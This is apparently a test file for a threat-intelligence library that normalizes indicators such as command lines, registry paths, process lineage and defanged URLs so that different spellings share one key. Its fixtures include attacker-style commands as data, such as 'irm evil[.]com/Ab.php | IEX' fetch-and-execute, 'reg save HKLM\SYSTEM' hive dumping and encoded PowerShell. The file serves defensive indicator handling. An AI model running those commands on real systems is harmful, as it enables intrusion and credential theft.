from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctiforge.observables.values import fold, lineage_names, lower, normalize, process_stem, strict
from ctiforge.records.observable import TYPES

SAME = [
    ("cmdline", "adfind.exe  -gcb\n -sc trustdmp", "adfind.exe -gcb -sc trustdmp"),
    ("cmdline", "reg save HKLM\\SYSTEM “C:\\temp\\sy.sa” /y", 'reg save HKLM\\SYSTEM "C:\\temp\\sy.sa" /y'),
    ("cmdline", "NET.EXE User /Domain", "net.exe user /domain"),
    ("cmdline", "curl -o a.txt <hxxp://10.0.0[.]1/a.txt>", "curl -o a.txt http://10.0.0.1/a.txt"),
    ("cmdline", "chcp 65001 \\> NUL & netstat \\-afn \\-p TCP", "chcp 65001 > NUL & netstat -afn -p TCP"),
    ("cmdline", "copy C\\:\\\\Windows\\\\x.exe", "copy C:\\Windows\\x.exe"),
    ("cmdline", 'schtasks /create /tn \\"Job\\" /f', 'schtasks /create /tn "Job" /f'),
    ("cmdline", "dir &gt;&gt; a.txt &amp; del b.txt", "dir >> a.txt & del b.txt"),
    ("cmdline", "powershell –enc AAAA", "powershell -enc AAAA"),
    ("cmdline", "`whoami /all`", "whoami /all"),
    ("cmdline", "dir>>a.txt", "dir >> a.txt"),
    ("cmdline", "who\u200bami /all", "whoami /all"),
    ("cmdline", "echo a \\u003e b", "echo a > b"),
    ("registry", "HKEY_LOCAL_MACHINE\\Software\\X", "HKLM\\SOFTWARE\\X\\"),
    ("registry", "HKCU:\\Software\\X", "HKEY_CURRENT_USER\\software\\x"),
    ("registry", "Registry::HKEY_USERS\\S-1-5", "HKU\\S-1-5"),
    ("registry", "\\REGISTRY\\MACHINE\\System", "HKLM\\SYSTEM"),
    ("registry", "HKLM\\A\\ Tree\\ TASK { GUID }", "HKLM\\A\\Tree\\TASK{GUID}"),
    ("services", "WebrootCheck", "webrootcheck"),
    ("scheduled_tasks", "\\Microsoft\\Windows\\Job", "microsoft\\windows\\job"),
    ("process_lineage", "C:\\Windows\\WINLOGON.exe → PowerShell", "winlogon.exe -> powershell.exe"),
    ("process_lineage", "a.exe => b.exe", "a.exe -> b.exe"),
    ("process_lineage", "a.exe -&gt; b.exe", "a.exe>b.exe"),
    ("process_lineage", "a.exe -\\> b.exe", "a.exe ––> b.exe"),
    ("process_lineage", "<redacted>.exe -> cmd.exe", "<redacted>.exe > cmd.exe"),
    ("process_lineage", "a.exe > cmd.exe /c dir > out.txt", "a.exe -> cmd.exe"),
    ("process_lineage", "/usr/bin/python3 /tmp/x.py => bash -c id", "python3 -> bash"),
    ("process_lineage", "Microsoft Word -> cmd.exe (PID 12)", "microsoft word -> cmd"),
    ("registry", "[HKLM\\Software\\X]", "HKLM/Software/X"),
    ("registry", "HKLM:\\Software\\X /v Foo", "HKLM\\Software\\X\\Foo"),
    ("registry", 'Set-ItemProperty -Path "HKCU:\\A\\B" -Name C -Value 1', "HKCU\\A\\B\\C"),
    ("cmdline", "echo %userdomain%\\*%computername%\\*\\*%username%", "echo %userdomain%*%computername%**%username%"),
    ("cmdline", "irm evil[.]com/Ab.php | IEX", "IRM EVIL.com/Ab.php | iex"),
    ("cmdline", "cmd.exe/c DIR", "cmd.exe/c dir"),
    ("network_indicators", "hXXps://Evil[.]com/", "https://evil.com"),
    ("network_indicators", "evil[dot]com", "evil(.)com"),
    ("hunt_queries", "DeviceEvents\n| where A == 1", "DeviceEvents | where A==1"),
]


@pytest.mark.parametrize(("type_", "one", "other"), SAME)
def test_two_spellings_of_one_value_share_a_key(type_: str, one: str, other: str) -> None:
    assert normalize(type_, one) == normalize(type_, other)


DIFFERENT = [
    ("cmdline", "net user", "net user /domain"),
    ("cmdline", "curl -o a.txt http://x", "curl -O a.txt http://x"),
    ("cmdline", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell -enc sqbfafgaiaaoae4azqb3ac0atwbiagoa"),
    ("cmdline", "bash /tmp/Run/x.sh", "bash /tmp/run/x.sh"),
    ("cmdline", "c^ur^l x", "curl x"),
    ("registry", "HKLM\\Software\\X", "HKCU\\Software\\X"),
    ("registry", "HKLM\\Software\\X", "HKLM\\Software\\XY"),
    ("registry", "HKLM\\Software\\Foo -Bar\\X", "HKLM\\Software\\Foo"),
    ("registry", "HKLM\\Tasks\\{GUID}", "HKLM\\Tasks{GUID}"),
    ("cmdline", "del %TEMP%\\*.log", "del %TEMP%*.log"),
    ("process_lineage", "a.exe -> b.exe", "b.exe -> a.exe"),
    ("hunt_queries", "where Name has 'A'", "where Name has 'a'"),
    ("services", "svc", "svc.exe"),
]


@pytest.mark.parametrize(("type_", "one", "other"), DIFFERENT)
def test_different_values_keep_different_keys(type_: str, one: str, other: str) -> None:
    assert normalize(type_, one) != normalize(type_, other)


def test_the_strict_key_trims_outer_white_space_only() -> None:
    assert strict("cmdline", "  net  user\n") == "net  user"
    assert strict("registry", "HKLM\\A") != strict("registry", "hklm\\a")


def test_an_unknown_type_is_folded_like_any_other() -> None:
    assert normalize("event_ids", " 4688\u200b ") == "4688"


def test_lineage_names_and_stems() -> None:
    assert lineage_names("a.exe->b.exe") == ["a.exe", "b.exe"]
    assert lineage_names("a.exe") == ["a.exe"]
    assert process_stem('"C:\\Windows\\System32\\CMD.EXE"') == "cmd"
    assert process_stem("/usr/bin/bash") == "bash"


ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=80) | st.text(
    "\\\"'<>[](){}.:hxtps &;,=| \n\u200baB1", max_size=60
)


@given(ANY_TEXT)
def test_every_folded_character_comes_from_a_stretch_of_the_original(text: str) -> None:
    folded = fold(text)

    assert len(folded.text) == len(folded.starts) == len(folded.ends)
    assert all(0 <= start < end <= len(text) for start, end in zip(folded.starts, folded.ends, strict=True))
    assert list(folded.starts) == sorted(folded.starts)
    assert list(folded.ends) == sorted(folded.ends)


@given(st.text(max_size=40))
def test_lower_keeps_the_length(text: str) -> None:
    assert len(lower(text)) == len(text)


@pytest.mark.parametrize("piece", ["\\", "\\ ", " ", "<http://", "[", "&", "\n> ", "\\*"])
def test_folding_is_linear_in_hostile_text(piece: str) -> None:
    assert len(fold(piece * 50_000).text) <= len(piece) * 50_000


@pytest.mark.parametrize("type_", TYPES)
@pytest.mark.parametrize("piece", ["=", "a.", "- ", "> ", 'reg add "', "a /v b "])
def test_keys_are_linear_in_hostile_text(type_: str, piece: str) -> None:
    started = process_time()
    normalize(type_, piece * 4_000)

    assert process_time() - started < 1
